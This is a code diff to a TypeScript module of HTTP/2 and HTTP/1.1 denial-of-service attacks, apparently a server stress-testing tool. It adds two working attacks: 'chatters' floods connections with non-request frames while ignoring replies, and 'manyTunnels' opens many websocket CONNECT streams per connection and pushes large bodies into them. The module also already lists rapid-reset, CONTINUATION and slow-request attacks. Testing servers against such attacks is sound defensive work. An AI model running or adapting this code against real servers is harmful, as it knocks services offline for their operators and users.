@@ -1,7 +1,10 @@
 import {
   begunHeaders,
+  body,
+  chatter,
   continuation,
   headers,
+  openHeaders,
   preface,
   reader,
   reset,
@@ -117,6 +120,58 @@ const continuations: Attack = (target, { connections }) => {
       () => setTimeout(one, 50),
     );
   for (let count = 0; count < connections; count++) one();
+};
+
+/** Frames by HTTP/2 that are no request, as many as are taken, and no answer to them is. */
+const chatters: Attack = (target, { connections }) => {
+  const one = (): void =>
+    open(
+      target,
+      "h2",
+      (socket) => {
+        socket.write(Buffer.concat([preface, settings(65_535)]));
+        const all = Buffer.concat(Array.from({ length: 1000 }, () => chatter));
+        const some = (): void => {
+          if (socket.destroyed) return;
+          seen.asked += 3000;
+          if (socket.write(all)) setTimeout(some, 5);
+          else socket.once("drain", some);
+        };
+        socket.pause();
+        some();
+      },
+      () => setTimeout(one, 50),
+    );
+  for (let count = 0; count < connections; count++) one();
+};
+
+/** Websockets by HTTP/2, many on each connection, on which much is said and nothing heard. */
+const manyTunnels: Attack = (target, { connections, each = 20, path }) => {
+  const asked = { ...question(target, path), ":method": "CONNECT", ":protocol": "websocket" };
+  const one = (): void =>
+    open(
+      target,
+      "h2",
+      (socket) => {
+        socket.write(Buffer.concat([preface, settings(0)]));
+        for (let stream = 1; stream < each * 2; stream += 2) {
+          seen.asked++;
+          socket.write(openHeaders(stream, { ...asked, "sec-websocket-version": "13" }));
+        }
+        socket.on(
+          "data",
+          reader((type, flags, which) => {
+            if (type === 4 && !(flags & 1)) socket.write(settingsTaken);
+            if (type === 3) answered("reset");
+            if (type !== 1) return;
+            answered("headers");
+            for (let count = 0; count < 4; count++) socket.write(body(which, 16_000));
+          }),
+        );
+      },
+      () => setTimeout(one, 500),
+    );
+  for (let count = 0; count < connections; count++) setTimeout(one, count * 20);
 };
 
 /** Connections of HTTP/1.1 on which something is begun and little follows. */
@@ -237,6 +292,8 @@ export const attacks = {
   closedWindows,
   rapidResets,
   continuations,
+  chatters,
+  manyTunnels,
   slowBodies,
   slowHeaders,
   idle,
